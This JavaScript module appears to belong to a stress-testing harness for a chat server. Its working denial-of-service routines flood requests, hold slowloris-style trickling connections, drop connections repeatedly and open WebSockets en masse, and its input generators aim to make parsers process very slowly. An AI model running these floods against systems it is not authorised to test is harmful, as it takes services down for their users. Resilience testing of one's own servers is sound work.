/** The parts of attacks: floods of requests, slow and idle connections, WebSockets. */
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Pool } from 'undici';
import { WebSocket } from 'ws';

const HEADERS_WITHIN_MS = 120_000;

/** One attack of one caller: its tools, its end, and the responses. */
export class Attack {
  /** Number of responses per status; `cut` counts calls without a response. @type {Record<string, number>} */
  answers = {};
  /** Some bodies of responses with status 500 and above. @type {string[]} */
  faults = [];

  constructor({ url, scene, seconds }) {
    this.url = url;
    this.scene = scene;
    this.endsAt = Date.now() + seconds * 1_000;
  }

  get isOver() {
    return Date.now() >= this.endsAt;
  }

  count(what) {
    this.answers[what] = (this.answers[what] ?? 0) + 1;
  }

  /**
   * Sends the requests of `make(n)` over this number of connections, each as fast as it is answered, or at most
   * `perSecond` in total.
   */
  async flood(connections, make, { perSecond = Infinity } = {}) {
    const pool = new Pool(this.url, {
      ...{ connections, pipelining: 1, headersTimeout: HEADERS_WITHIN_MS, bodyTimeout: HEADERS_WITHIN_MS },
    });
    let n = 0;
    const sender = async () => {
      while (!this.isOver) {
        const startedAt = Date.now();
        await this.#send(pool, make(n++));
        if (perSecond !== Infinity)
          await this.pause((1_000 * connections) / perSecond - (Date.now() - startedAt));
      }
    };
    await Promise.all(Array.from({ length: connections }, sender));
    await pool.destroy();
  }

  /** Keeps this number of connections open, sends `write` on each, then another byte now and then. */
  async trickle(connections, begin, everyMs = 1_000) {
    const { hostname, port } = new URL(this.url);
    let open = 0;
    while (!this.isOver) {
      while (open < connections) {
        open++;
        const socket = connect(Number(port), hostname);
        socket.on('connect', () => socket.write(begin()));
        socket.on('error', () => undefined);
        socket.on('data', (data) => this.count(statusOf(data)));
        const timer = setInterval(() => socket.write('a'), everyMs);
        socket.on('close', () => {
          clearInterval(timer);
          open--;
        });
        setTimeout(() => socket.destroy(), Math.max(0, this.endsAt - Date.now())).unref();
      }
      await this.pause(200);
    }
  }

  /** Repeatedly opens this number of connections, writes the parts one by one, and disconnects after `holdMs`. */
  async drop(connections, holdMs, partMs, parts) {
    const { hostname, port } = new URL(this.url);
    const one = async () => {
      while (!this.isOver) {
        const socket = connect(Number(port), hostname).on('error', () => undefined);
        socket.on('data', (data) => this.count(statusOf(data)));
        for (const part of parts()) {
          socket.write(part);
          await this.pause(partMs);
        }
        await this.pause(holdMs);
        socket.destroy();
        this.count('dropped');
      }
    };
    await Promise.all(Array.from({ length: connections }, one));
  }

  /** Keeps this number of WebSockets open, and runs `act(socket)` on each every `everyMs`. */
  async sockets(connections, token, act, everyMs) {
    const open = new Set();
    while (!this.isOver) {
      for (let missing = Math.min(20, connections - open.size); missing > 0; missing--)
        this.#openSocket(open, token, act, everyMs);
      await this.pause(100);
    }
    // On a busy machine the first may still be on its way.
    for (let tries = 0; tries < 600 && open.size > 0 && Object.keys(this.answers).length === 0; tries++)
      await sleep(50);
    for (const socket of open) socket.terminate();
  }

  /** Waits, but not beyond the end. */
  pause(ms) {
    return sleep(Math.max(0, Math.min(ms, this.endsAt - Date.now())));
  }

  async #send(pool, { method = 'GET', path, token, body, headers }) {
    const isJson = body !== undefined && typeof body !== 'string' && !Buffer.isBuffer(body);
    try {
      const { statusCode, body: answer } = await pool.request({
        ...{ method, path, body: isJson ? JSON.stringify(body) : (body ?? null) },
        headers: {
          ...(body === undefined ? {} : { 'content-type': 'application/json' }),
          ...(token ? { authorization: `Bearer ${token}` } : {}),
          ...headers,
        },
      });
      this.count(statusCode);
      if (statusCode < 500) return void (await answer.dump());
      const text = await answer.text();
      if (this.faults.length < 5) this.faults.push(`${method} ${path.slice(0, 100)}: ${statusCode} ${text}`);
    } catch (error) {
      this.count(this.isOver ? 'ended' : `cut ${error.code ?? error.message}`);
      await this.pause(5);
    }
  }

  #openSocket(open, token, act, everyMs) {
    const socket = new WebSocket(`${this.url.replace(/^http/, 'ws')}/api/v4/websocket`, {
      headers: token ? { authorization: `Bearer ${token}` } : {},
    });
    open.add(socket);
    let timer;
    socket.on('open', () => {
      this.count('open');
      timer = setInterval(() => act(socket), everyMs);
    });
    socket.on('unexpected-response', (_, response) => {
      this.count(response.statusCode);
      socket.terminate();
    });
    socket.on('error', () => undefined);
    socket.on('message', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      open.delete(socket);
    });
  }
}

function statusOf(data) {
  return /^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1', 0, 12))?.[1] ?? 'data';
}

/** Random letters. */
export const letters = (length) =>
  Array.from({ length }, () => 'abcdefghijklmnopqrstuvwxyz'[Math.floor(Math.random() * 26)]).join('');

/** An unknown id. */
export const unknownId = () => letters(26);

/** Texts of about this length that careless code processes very slowly. */
export const slowTexts = (length) =>
  [
    'a' + '\u0315\u0300\u05ae\u0301'.repeat(length / 4),
    '`'.repeat(length),
    '<'.repeat(length),
    '<http://'.repeat(length / 8),
    '@a'.repeat(length / 2),
    '#a '.repeat(length / 3),
    ':a:'.repeat(length / 3),
    '*_~'.repeat(length / 3),
    ' '.repeat(length - 1) + 'x',
    'deploy '.repeat(length / 7),
    '\n'.repeat(length - 1) + 'x',
    '[a]('.repeat(length / 4),
    '\\'.repeat(length),
    '😀'.repeat(length / 2),
    '```\n'.repeat(length / 4),
  ].map((text) => text.slice(0, length));

/** JSON nested to this depth. */
export const deepJson = (depth) => '{"text":'.repeat(depth) + '1' + '}'.repeat(depth);
